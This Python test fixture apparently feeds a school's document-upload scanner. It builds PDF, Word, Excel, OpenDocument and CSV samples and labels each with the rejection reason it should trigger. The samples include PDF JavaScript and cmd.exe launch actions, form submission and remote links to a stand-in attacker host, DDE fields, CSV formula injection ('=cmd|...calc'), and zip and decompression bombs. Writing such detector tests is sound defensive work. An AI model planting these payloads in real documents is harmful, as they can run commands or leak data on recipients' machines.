"""Documents a school might hand in, and the code that keeps each from being published; no code: it is sound."""

import io
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf

from dossiers import DOCX, ODT, XLSX, office, pdf

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OUTSIDE = '<Relationships><Relationship Id="a" Type="x/{}" Target="https://penjahat.invalid/a" TargetMode="External"/>'


def _compressed() -> bytes:
    """Hide a script in a compressed object stream, where no search through the bytes finds it."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _locked() -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.save(out, encryption=pikepdf.Encryption(user="sandi", owner="sandi"))
    return out.getvalue()


def _lying() -> bytes:
    """Claim a part of ten bytes that unpacks to 90 MB."""
    raw = office(DOCX, **{"word/media/a.xml": b" " * 90_000_000})
    size = (90_000_000).to_bytes(4, "little")
    return raw.replace(size, (10).to_bytes(4, "little"))


def _bomb() -> str:
    data = zlib.compress(b"\0" * 50_000_000)
    body = f"<</Type/ObjStm/N 1/First 4/Length {len(data)}/Filter/FlateDecode>>\nstream\n"
    return body + data.decode("latin-1") + "\nendstream"


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.exe", b"MZ")
    return buffer.getvalue()


def _action(kind: str, more: str = "") -> bytes:
    return pdf(f"<</S/{kind}{more}>>", root="/OpenAction 4 0 R")


DOCUMENTS: Mapping[str, tuple[bytes, str]] = {
    "skrip.pdf": (_action("JavaScript", "/JS(app.alert(1))"), "attachment-active"),
    "samar.pdf": (_action("#4aavaScript", "/#4aS(x)"), "attachment-active"),
    "padat.pdf": (_compressed(), "attachment-active"),
    "program.pdf": (_action("Launch", "/F(cmd.exe)"), "attachment-active"),
    "kirim.pdf": (_action("SubmitForm", "/F(https://penjahat.invalid)"), "attachment-active"),
    "jauh.pdf": (_action("GoToR", "/F(\\\\\\\\penjahat\\\\a)"), "attachment-active"),
    "saat-buka.pdf": (pdf(page="/AA<</O<</S/URI/URI(https://penjahat.invalid)>>>>"), "attachment-active"),
    "formulir.pdf": (pdf(root="/AcroForm<</Fields[]/XFA[]>>"), "attachment-active"),
    "isi.pdf": (pdf(root="/Names<</EmbeddedFiles<</Names[(a)<</F(a.exe)>>]>>>>"), "attachment-embedded"),
    "kaya.pdf": (pdf(page="/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"), "attachment-active"),
    "terkunci.pdf": (_locked(), "attachment-locked"),
    "rusak.pdf": (b"%PDF-1.7 x", "attachment-content"),
    "bom.pdf": (pdf(_bomb())[:-90], "attachment-content"),
    "halaman.pdf": (b"<!doctype html><script>alert(1)</script>", "attachment-content"),
    "polos.pdf": (pdf(root="/OpenAction[3 0 R/Fit]"), ""),
    "makro.docx": (office(DOCX, **{"word/vbaProject.bin": OLE}), "attachment-macro"),
    "jenis.docx": (office({**DOCX, "[Content_Types].xml": "<x>macroEnabled</x>"}), "attachment-macro"),
    "pola.docx": (
        office(DOCX, **{"word/_rels/settings.xml.rels": OUTSIDE.format("attachedTemplate")}),
        "attachment-external",
    ),
    "gambar.docx": (office(DOCX, **{"word/_rels/document.xml.rels": OUTSIDE.format("image")}), "attachment-external"),
    "tautan.docx": (office(DOCX, **{"word/_rels/document.xml.rels": OUTSIDE.format("hyperlink")}), ""),
    "dde.docx": (
        office({**DOCX, "word/document.xml": "<w:instrText> DDEAUTO x </w:instrText>"}),
        "attachment-external",
    ),
    "ole.docx": (office(DOCX, **{"word/embeddings/oleObject1.bin": OLE}), "attachment-embedded"),
    "arsip.docx": (office(DOCX, **{"word/embeddings/a.zip": _zip()}), "attachment-embedded"),
    "exe.docx": (office(DOCX, **{"word/media/a.png": b"MZ\x90"}), "attachment-embedded"),
    "grafik.docx": (office(DOCX, **{"word/embeddings/a.xlsx": office(XLSX)}), ""),
    "entitas.docx": (office({**DOCX, "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "attachment-content"),
    "bom.docx": (office(DOCX, **{"word/a.xml": b" " * 70_000_000}), "attachment-heavy"),
    "bohong.docx": (_lying(), "attachment-content"),
    "banyak.docx": (office(DOCX, **{f"a{n}": b"" for n in range(3_000)}), "attachment-heavy"),
    "bukan.docx": (_zip(), "attachment-content"),
    "tua.docx": (OLE, "attachment-content"),
    "makro.xlsx": (office(XLSX, **{"xl/macrosheets/sheet1.xml": "<x/>"}), "attachment-macro"),
    "sambung.xlsx": (office(XLSX, **{"xl/connections.xml": "<x/>"}), "attachment-external"),
    "luar.xlsx": (office(XLSX, **{"xl/externalLinks/a.xml": "<x/>"}), "attachment-external"),
    "aktif.xlsx": (office(XLSX, **{"xl/activeX/a.xml": "<x/>"}), "attachment-macro"),
    "makro.odt": (office(ODT, **{"Basic/Standard/a.xml": "<x/>"}), "attachment-macro"),
    "peristiwa.odt": (office({**ODT, "content.xml": "<script:event-listener x='y'/>"}), "attachment-macro"),
    "luar.ods": (
        office({**ODT, "content.xml": "<draw:image xlink:href='https://penjahat.invalid/a'/>"}),
        "attachment-external",
    ),
    "rumus.csv": (b"nama,nilai\nx,=cmd|' /C calc'!A0\n", "attachment-formula"),
    "rumus-2.csv": (b'nama;nilai\n"=HYPERLINK(1)";@SUM(1)\n', "attachment-formula"),
    "rumus-3.csv": (b"a\n+cmd|x\n", "attachment-formula"),
    "biasa.csv": (b"a,b\n-5,+62 812\n- catatan,@sekolah\n", ""),
    "biner.csv": (b"a\0b", "attachment-content"),
}
